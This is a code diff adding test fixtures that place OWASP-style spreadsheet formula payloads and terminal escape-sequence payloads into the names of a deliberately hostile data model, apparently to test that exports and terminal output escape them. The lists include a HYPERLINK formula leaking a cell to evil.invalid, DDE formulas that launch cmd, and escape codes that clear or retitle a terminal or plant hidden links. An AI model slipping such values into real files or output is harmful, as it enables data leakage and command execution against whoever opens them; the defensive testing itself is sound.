@@ -143,3 +143,39 @@ def hostile_model_yaml(model_id: str = "hostile") -> str:
     return yaml.safe_dump(
         hostile_model_data(model_id), allow_unicode=True, sort_keys=False, width=1000
     )
+
+
+# Text a spreadsheet would run as a formula (OWASP's CSV injection list).
+FORMULA_PAYLOADS: list[str] = [
+    '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+# Text that would act on a terminal: clear it, retitle it, plant an OSC 8 link, reorder it.
+TERMINAL_PAYLOADS: list[str] = [
+    "\x1b[2J\x1b[H cleared",
+    "\x1b]0;pwned\x07 window title",
+    "\x1b]8;;https://evil.invalid/\x1b\\link\x1b]8;;\x1b\\ osc 8",
+    "nul \x00 byte",
+    "c1 \x9b31m csi",
+    "bidi \u202eevil\u202c \u2066x\u2069",
+    "backspace \x08\x08\x08 del \x7f",
+]
+
+
+def injection_model_data(model_id: str = "injection") -> dict[str, Any]:
+    """:func:`hostile_model_data` with formula payloads as partner names and terminal payloads
+    as phase names (HTML payloads stay everywhere else)."""
+    data = hostile_model_data(model_id)
+    for partner, payload in zip(data["partners"], FORMULA_PAYLOADS, strict=False):
+        partner["name"] = payload
+    for phase, payload in zip(data["phases"], TERMINAL_PAYLOADS, strict=False):
+        phase["name"] = payload
+    data["interventions"][0]["name"] = TERMINAL_PAYLOADS[-1]
+    data["interventions"][1]["name"] = FORMULA_PAYLOADS[0]
+    return data
